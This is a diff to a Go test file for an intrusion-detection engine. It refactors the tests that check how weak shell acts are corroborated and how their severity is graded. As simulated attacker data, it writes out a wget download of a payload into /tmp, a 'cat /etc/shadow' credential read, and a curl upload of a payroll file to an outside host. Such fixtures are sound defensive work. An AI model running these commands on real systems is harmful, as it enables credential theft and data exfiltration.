@@ -63,32 +63,45 @@ func TestCorroborate(t *testing.T) {
 // page runs id and uname -a on every view, benign-desk); discovery and
 // staging do not corroborate each other.
 func TestCorroborateDiscovery(t *testing.T) {
-	for _, c := range []struct {
-		name string
-		then func(s *sim, sh who)
-		want detect.Severity
-	}{
+	checkKept(t, "id 2>&1", detect.StageCommandExecution, detect.ShowsDiscovery, "only asks who and where it runs", []keptCase{
 		{"alone", func(*sim, who) {}, detect.SeverityMedium},
 		{"a fetch beside it is no corroboration", func(s *sim, sh who) {
 			f := s.find(s.exec(11, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
 				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
 			f.NeedsCorroboration, f.Shows = true, detect.ShowsStaging
 		}, detect.SeverityMedium},
-		{"a secret read follows", func(s *sim, sh who) {
-			s.find(s.exec(11, child(301, sh), "sh", "-c", "cat /etc/shadow"),
-				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
-		}, detect.SeverityHigh},
-	} {
+		{"a secret read follows", secretRead, detect.SeverityHigh},
+	})
+}
+
+// keptCase is one chain around a weak act and the severity it should end at.
+type keptCase struct {
+	name string
+	then func(s *sim, sh who)
+	want detect.Severity
+}
+
+// checkKept runs the cases of a weak act (weakAct) and checks its
+// severity and that a demotion names why (said).
+func checkKept(t *testing.T, cmd string, stage detect.Stage, shows detect.Shows, said string, cases []keptCase) {
+	t.Helper()
+	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
-			f, got := weakAct(t, "id 2>&1", detect.StageCommandExecution, detect.ShowsDiscovery, c.then)
+			f, got := weakAct(t, cmd, stage, shows, c.then)
 			if got.Severity != c.want {
 				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
 			}
-			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "only asks who and where it runs") {
+			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, said) {
 				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
 			}
 		})
 	}
+}
+
+// secretRead is a chain's act that shows intent: a secret read.
+func secretRead(s *sim, sh who) {
+	s.find(s.exec(11, child(301, sh), "sh", "-c", "cat /etc/shadow"),
+		detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
 }
 
 // weakAct runs one corroboration case: a web server's shell (pid 300)
@@ -168,25 +181,8 @@ func TestCorroborateScriptWrite(t *testing.T) {
 // press-ssti) is an exfiltration's act and an integration's alike: high
 // when its chain shows intent, medium alone with the reason.
 func TestCorroborateTransfer(t *testing.T) {
-	for _, c := range []struct {
-		name string
-		then func(s *sim, sh who)
-		want detect.Severity
-	}{
+	checkKept(t, "curl -s -T /srv/out/payroll.p7m https://bank.example/intake/", detect.StageExfiltrationImpact, detect.ShowsTransfer, "only sends files to a destination", []keptCase{
 		{"alone", func(*sim, who) {}, detect.SeverityMedium},
-		{"a secret read before it", func(s *sim, sh who) {
-			s.find(s.exec(11, child(301, sh), "sh", "-c", "cat /etc/shadow"),
-				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
-		}, detect.SeverityHigh},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			f, got := weakAct(t, "curl -s -T /srv/out/payroll.p7m https://bank.example/intake/", detect.StageExfiltrationImpact, detect.ShowsTransfer, c.then)
-			if got.Severity != c.want {
-				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
-			}
-			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "only sends files to a destination") {
-				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
-			}
-		})
-	}
+		{"a secret read before it", secretRead, detect.SeverityHigh},
+	})
 }
